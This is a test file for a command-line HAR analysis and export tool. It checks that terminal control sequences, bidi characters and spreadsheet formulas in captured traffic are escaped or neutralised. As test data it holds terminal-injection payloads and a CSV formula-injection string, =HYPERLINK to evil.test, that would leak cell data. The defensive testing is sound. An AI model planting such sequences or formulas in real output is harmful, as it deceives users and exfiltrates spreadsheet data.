/**
 * What reaches a terminal: captured ESC/OSC sequences, C1 controls, line breaks and bidi controls
 * are printed as visible escapes by `analyze` (table and --json) and `export`; CSV cells that a
 * spreadsheet would run as formulas are neutralised; analyze stays linear in WebSocket messages.
 */
import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { Writable } from 'node:stream';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { analyzeCommand } from '../../cli/analyze.js';
import { exportCommand } from '../../cli/export.js';
import { escapeForTerminal, terminalSafeJson } from '../../core/terminal.js';
import { csvField } from '../../store/export.js';
import { audit, exchange, finding, item, recorder, tempStore } from '../store/fixtures.js';

function sink(tty = false): { stream: Writable & { isTTY?: boolean }; text: () => string } {
  const chunks: string[] = [];
  const stream = new Writable({ write(c, _e, cb) { chunks.push(String(c)); cb(); } }) as Writable & { isTTY?: boolean };
  if (tty) stream.isTTY = true;
  return { stream, text: () => chunks.join('') };
}

// Anything a terminal acts on: ESC, other C0 but the line feeds we print ourselves, DEL, C1, bidi.
const CONTROLS = /[\u0000-\u0009\u000b-\u001f\u007f-\u009f\u061c\u200e\u200f\u2028\u2029\u202a-\u202e\u2066-\u2069]/;
const CLEAR = '\u001b[2J\u001b[H';
const OSC8 = '\u001b]8;;https://evil.test/\u0007click\u001b]8;;\u0007';
const HOSTILE = `/x?a=${CLEAR}b&c=${OSC8}&d=\u009b31m&e=\u202Egnp.exe&f=line1\nFAKE LINE`;

describe('escapeForTerminal and terminalSafeJson', () => {
  it.each([
    ['ESC CSI', '\u001b[2J', '\\x1B[2J'],
    ['OSC 8 with BEL', '\u001b]8;;u\u0007', '\\x1B]8;;u\\x07'],
    ['C1 CSI', '\u009b31m', '\\x9B31m'],
    ['line feed and CR', 'a\nb\rc', 'a\\nb\\rc'],
    ['bidi override and isolate', 'a\u202Eb\u2066c', 'a\\u202Eb\\u2066c'],
    ['plain text, accents and emoji untouched', 'héllo wörld 🙂', 'héllo wörld 🙂'],
  ])('%s', (_n, input, want) => {
    expect(escapeForTerminal(input)).toBe(want);
  });

  it('JSON keeps its meaning', () => {
    const v = { s: `a\u009bb\u202Ec\u2028d${CLEAR}` };
    const text = terminalSafeJson(JSON.stringify(v));
    expect(CONTROLS.test(text)).toBe(false);
    expect(JSON.parse(text)).toEqual(v);
  });
});

describe('analyze and export print no control character', () => {
  let dir: string;
  let har: string;
  let t: ReturnType<typeof tempStore>;
  beforeAll(async () => {
    dir = mkdtempSync(join(tmpdir(), 'lw-term-'));
    har = join(dir, 'hostile.har');
    const entry = (url: string, headers: Array<{ name: string; value: string }>) => ({
      startedDateTime: '2025-01-01T00:00:00Z', time: 1,
      request: { method: 'GET', url, httpVersion: 'HTTP/1.1', headers, queryString: [], cookies: [], headersSize: -1, bodySize: 0 },
      response: { status: 200, statusText: 'OK', httpVersion: 'HTTP/1.1', headers: [], cookies: [], content: { size: 0, mimeType: 'x' }, redirectURL: '', headersSize: -1, bodySize: 0 },
      cache: {}, timings: { send: 0, wait: 1, receive: 0 },
    });
    writeFileSync(har, JSON.stringify({ log: { version: '1.2', creator: { name: 't', version: '1' }, entries: [
      entry(`https://vector.im/_matrix/identity/api/v1/lookup?medium=email&address=bob%40example.com&z=${encodeURIComponent(CLEAR + OSC8)}`,
        [{ name: 'User-Agent', value: `Element ${CLEAR}\u202Eevil` }]),
      entry(`https://vector.im/${encodeURIComponent('\u001b')}`, []),
      { request: { url: `not a url ${CLEAR}` } },
    ] } }));
    t = tempStore();
    const r = recorder(t.store, { storeBodies: 'all' });
    r.stage.run(item(exchange(1, { path: HOSTILE }), audit([finding('email', `=HYPERLINK("https://evil.test/?"&A1,"${CLEAR}x")`), finding('user_agent', `ua\u202E${OSC8}`)])));
    await r.close();
    t.store.close();
  });
  afterAll(() => {
    rmSync(dir, { recursive: true, force: true });
    t.cleanup();
  });

  it('analyze, table and --json, and its stderr', async () => {
    for (const json of [false, true]) {
      const out = sink();
      const err = sink();
      await analyzeCommand(har, { json, identity: ['email=bob@example.com'] }, out.stream, err.stream);
      expect(out.text()).toContain('vector.im');
      expect(CONTROLS.test(out.text()), out.text()).toBe(false);
      expect(CONTROLS.test(err.text().replace(/\n/g, '')), err.text()).toBe(false);
      if (json) for (const l of out.text().trimEnd().split('\n')) JSON.parse(l);
    }
  });

  it.each(['jsonl', 'har'])('export --format %s: valid JSON, no raw control character', async (format) => {
    const out = sink();
    await exportCommand({ dataDir: t.dir, format, out: out.stream });
    const text = out.text();
    expect(CONTROLS.test(text.replace(/\n/g, ''))).toBe(false);
    const parsed = format === 'har' ? JSON.parse(text) : JSON.parse(text.trim());
    expect(JSON.stringify(parsed)).toContain('\\u001b[2J');
  });

  it('export --format csv: formulas neutralised; control characters escaped when stdout is a terminal', async () => {
    const file = sink();
    await exportCommand({ dataDir: t.dir, format: 'csv', out: file.stream });
    expect(file.text()).toContain(`"'=HYPERLINK(`);
    expect(file.text()).toContain(CLEAR); // a file keeps the data as captured
    const tty = sink(true);
    await exportCommand({ dataDir: t.dir, format: 'csv', out: tty.stream });
    expect(CONTROLS.test(tty.text().replace(/\r\n/g, ''))).toBe(false);
    expect(tty.text()).toContain('\\x1B[2J');
  });

  it.each([
    ['=1+1', `"'=1+1"`], ['+33612345678', `"'+33612345678"`], ['-2+3', `"'-2+3"`], ['@SUM(A1)', `"'@SUM(A1)"`],
    ['\tx', `"'\tx"`], ['\rx', `"'\rx"`], ['plain', 'plain'], ['a=b', 'a=b'], ['', ''],
  ])('csvField(%j) = %s', (input, want) => {
    expect(csvField(input)).toBe(want);
  });

  it('numbers stay numbers in CSV', () => {
    expect(csvField(-1)).toBe('-1');
  });
});

describe('analyze is linear in WebSocket messages', () => {
  it('one entry with 40,000 messages analyses in a few seconds of CPU', async () => {
    const dir = mkdtempSync(join(tmpdir(), 'lw-ws40k-'));
    try {
      const messages = Array.from({ length: 40_000 }, (_, i) => ({
        type: i % 2 ? 'receive' : 'send', time: 1_700_000_000 + i / 1000, opcode: 1, data: JSON.stringify({ body: `hello ${i}` }),
      }));
      const file = join(dir, 'ws.har');
      writeFileSync(file, JSON.stringify({ log: { version: '1.2', creator: { name: 't', version: '1' }, entries: [{
        startedDateTime: '2025-01-01T00:00:00Z', time: 1,
        request: { method: 'GET', url: 'wss://matrix.example/sync', httpVersion: 'HTTP/1.1', headers: [], queryString: [], cookies: [], headersSize: -1, bodySize: 0 },
        response: { status: 101, statusText: '', httpVersion: 'HTTP/1.1', headers: [], cookies: [], content: { size: 0, mimeType: 'x' }, redirectURL: '', headersSize: -1, bodySize: 0 },
        cache: {}, timings: { send: 0, wait: 0, receive: 0 }, _webSocketMessages: messages,
      }] } }));
      const out = sink();
      // CPU time, not wall time: the test machine is shared. The quadratic version took ~80 s of CPU.
      const cpu = process.cpuUsage();
      await analyzeCommand(file, { json: true }, out.stream, sink().stream);
      const used = process.cpuUsage(cpu);
      expect(out.text().trimEnd().split('\n')).toHaveLength(1);
      expect((used.user + used.system) / 1e6).toBeLessThan(8);
    } finally {
      rmSync(dir, { recursive: true, force: true });
    }
  }, 120_000);
});
